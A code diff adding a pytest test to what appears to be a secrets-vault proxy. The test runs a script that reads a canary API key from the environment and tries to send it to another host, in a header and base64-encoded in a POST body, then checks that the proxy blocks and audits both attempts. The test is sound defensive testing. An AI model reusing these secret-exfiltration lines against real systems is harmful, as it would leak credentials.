@@ -12,6 +12,7 @@ from __future__ import annotations
 import base64
 import json
 import re
+import sys
 import time
 from collections.abc import Iterator
 from urllib.parse import quote
@@ -20,7 +21,7 @@ import httpx
 import pytest
 import trustme
 from helpers.proxy import audit_records, wait_audit
-from helpers.server import OWNER_PASSWORD, ServerProc
+from helpers.server import OWNER_EMAIL, OWNER_PASSWORD, ServerProc
 from helpers.upstream import TLSUpstream
 
 SECRET = 'sk-Exf1l+secret/"42"-value'
@@ -157,3 +158,25 @@ def test_no_audit_record_holds_the_value(srv: ServerProc) -> None:
     for rec in audit_records(srv.home):
         dumped = json.dumps(rec)
         assert SECRET not in dumped and quote(SECRET, safe="") not in dumped
+
+
+def test_vault_run_canary_is_refused_everywhere(srv: ServerProc, up: TLSUpstream) -> None:
+    """`vault run --canary KEY`: the child sees a random canary in KEY; sending it anywhere (an
+    unmatched host, or base64-encoded to the service host itself) is refused and named."""
+    srv.cli("auth", "login", "--email", OWNER_EMAIL, "--password-stdin", input=OWNER_PASSWORD + "\n")
+    script = (
+        "import base64, os, requests\n"
+        "v = os.environ['STRIPE_KEY']\n"
+        "assert v.startswith('av-canary-STRIPE_KEY-') and len(v) > 30, v\n"
+        f"a = requests.get('https://other.upstream.test:{up.port}/echo/c', headers={{'X-K': v}})\n"
+        f"b = requests.post('https://localhost:{up.port}/echo/c', data=base64.b64encode(b'x' + v.encode()))\n"
+        "print(a.status_code, a.json()['error'], b.status_code, b.json()['error'])\n"
+    )
+    up.requests_seen.clear()
+    cp = srv.cli("vault", "run", "--quiet", "--canary", "STRIPE_KEY", "--", sys.executable, "-c", script)
+    assert cp.stdout.split() == ["403", "exfiltration_blocked", "403", "exfiltration_blocked"], cp.stderr
+    rec = wait_audit(srv.home, error="exfiltration_blocked", host="other.upstream.test", path="/echo/c")
+    assert rec["blocked_key"] == "STRIPE_KEY" and rec["actor"].startswith("session:")
+    assert up.requests_seen.snapshot() == []
+    bad = srv.cli("vault", "run", "--placeholder", "K_A", "--canary", "K_A", "--", "true", check=False)
+    assert bad.returncode != 0 and "both --placeholder and --canary" in bad.stderr
